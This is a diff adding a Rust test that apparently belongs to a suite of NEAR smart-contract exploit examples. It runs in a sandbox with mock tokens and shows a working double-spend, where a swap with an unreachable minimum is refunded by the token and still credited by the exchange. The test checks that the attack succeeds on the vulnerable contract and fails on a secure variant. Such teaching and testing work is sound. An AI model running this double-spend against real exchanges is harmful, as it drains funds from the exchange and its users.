@@ -0,0 +1,112 @@
+//! A failed swap is refunded by the token and still credited by the exchange
+
+use anyhow::{ensure, Result as AnyResult};
+use near_workspaces::types::NearToken;
+use near_workspaces::{Account, Contract};
+use serde_json::json;
+
+use crate::{ExploitSpec, Sandbox, CONTRACT_BALANCE};
+
+pub const SPEC: ExploitSpec = ExploitSpec {
+    example: "ft_transfer_call_double_spend",
+    description: "Unreachable min_amount_out returns the deposit and keeps the credit",
+    must_succeed: || Box::pin(attack("ft_transfer_call_double_spend")),
+    must_fail: || Box::pin(attack("ft_transfer_call_double_spend_secure")),
+    rejection: "Insufficient deposit",
+};
+
+const RESERVE: u128 = 5_000;
+const AMOUNT: u128 = 1_000;
+
+async fn ft_transfer(
+    from: &Account,
+    token: &Contract,
+    to: &Contract,
+    amount: u128,
+) -> AnyResult<()> {
+    from.call(token.id(), "ft_transfer")
+        .args_json(json!({ "receiver_id": to.id(), "amount": amount.to_string() }))
+        .deposit(NearToken::from_yoctonear(1))
+        .transact()
+        .await?
+        .into_result()?;
+    Ok(())
+}
+
+async fn ft_balance_of(token: &Contract, account: &Account) -> AnyResult<u128> {
+    let balance: String = token
+        .view("ft_balance_of")
+        .args_json(json!({ "account_id": account.id() }))
+        .await?
+        .json()?;
+    Ok(balance.parse()?)
+}
+
+async fn attack(contract: &'static str) -> AnyResult<()> {
+    let s = Sandbox::new().await?;
+    let usdc = s
+        .deploy(
+            "mock_ft",
+            "usdc",
+            CONTRACT_BALANCE,
+            json!({ "holders": [
+                [s.owner.id(), RESERVE.to_string()],
+                [s.attacker.id(), AMOUNT.to_string()],
+            ] }),
+        )
+        .await?;
+    let wnear = s
+        .deploy(
+            "mock_ft",
+            "wnear",
+            CONTRACT_BALANCE,
+            json!({ "holders": [[s.owner.id(), RESERVE.to_string()]] }),
+        )
+        .await?;
+    let exchange = s
+        .deploy(
+            contract,
+            "exchange",
+            CONTRACT_BALANCE,
+            json!({
+                "tokens": [usdc.id(), wnear.id()],
+                "reserves": [RESERVE.to_string(), RESERVE.to_string()],
+            }),
+        )
+        .await?;
+    ft_transfer(&s.owner, &usdc, &exchange, RESERVE).await?;
+    ft_transfer(&s.owner, &wnear, &exchange, RESERVE).await?;
+
+    // The swap cannot meet its minimum, so the whole amount is "unused"
+    s.attacker
+        .call(usdc.id(), "ft_transfer_call")
+        .args_json(json!({
+            "receiver_id": exchange.id(),
+            "amount": AMOUNT.to_string(),
+            "msg": json!({ "min_amount_out": RESERVE.to_string() }).to_string(),
+        }))
+        .deposit(NearToken::from_yoctonear(1))
+        .max_gas()
+        .transact()
+        .await?
+        .into_result()?;
+    ensure!(
+        ft_balance_of(&usdc, &s.attacker).await? == AMOUNT,
+        "ft_resolve_transfer did not refund the attacker"
+    );
+
+    s.attacker
+        .call(exchange.id(), "withdraw")
+        .args_json(json!({ "token_id": usdc.id(), "amount": AMOUNT.to_string() }))
+        .max_gas()
+        .transact()
+        .await?
+        .into_result()?;
+
+    let balance = ft_balance_of(&usdc, &s.attacker).await?;
+    ensure!(
+        balance == 2 * AMOUNT,
+        "attacker holds {balance} USDC after depositing {AMOUNT}"
+    );
+    Ok(())
+}